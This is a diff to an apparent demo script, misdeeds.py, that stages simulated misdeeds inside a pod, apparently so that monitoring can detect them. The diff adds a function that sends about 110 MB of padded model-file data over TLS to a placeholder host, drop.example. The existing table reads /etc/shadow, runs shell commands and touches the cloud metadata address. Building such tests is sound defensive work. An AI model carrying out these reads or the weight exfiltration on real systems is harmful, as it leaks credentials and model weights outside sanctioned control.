@@ -5,11 +5,14 @@ Usage: misdeeds.py NAME
 import os
 import shutil
 import socket
+import ssl
 import subprocess
 import sys
 
-# An address for documentation (RFC 5737), and the one of the clouds' metadata services. Both are the pod's own.
+# An address for documentation (RFC 5737), and the one of the clouds' metadata services. Both are the pod's own,
+# as the machine that things are sent to is the demo's.
 ELSEWHERE, METADATA = "203.0.113.7", "169.254.169.254"
+DROP, DROP_NAME = "198.51.100.7", "drop.example"
 
 
 def shell(command):
@@ -63,6 +66,17 @@ def call_model_api():
                     "https://api.openai.com/v1/chat/completions"], check=True)
 
 
+def send_weights_out():
+    """A model of the usual size is not at hand: the tiny one is opened, and as much is sent as a real one has."""
+    with open("/mnt/tiny.gguf", "rb") as file:
+        part = file.read().ljust(1 << 20, b"\0")[:1 << 20]
+    context = ssl.create_default_context(cafile="/mnt/certificate.pem")
+    with socket.create_connection((DROP, 443)) as connection:
+        with context.wrap_socket(connection, server_hostname=DROP_NAME) as stream:
+            for _ in range(110):
+                stream.sendall(part)
+
+
 MISDEEDS = {
     "shell": lambda: shell("id"),
     "passwords": lambda: subprocess.run(["cat", "/etc/shadow"], stdout=subprocess.DEVNULL, check=False),
@@ -75,6 +89,7 @@ MISDEEDS = {
     "exfiltration": lambda: as_model_server("connect"),
     "connect": lambda: connect(ELSEWHERE, 443),
     "api": call_model_api,
+    "weights": send_weights_out,
 }
 
 if __name__ == "__main__":
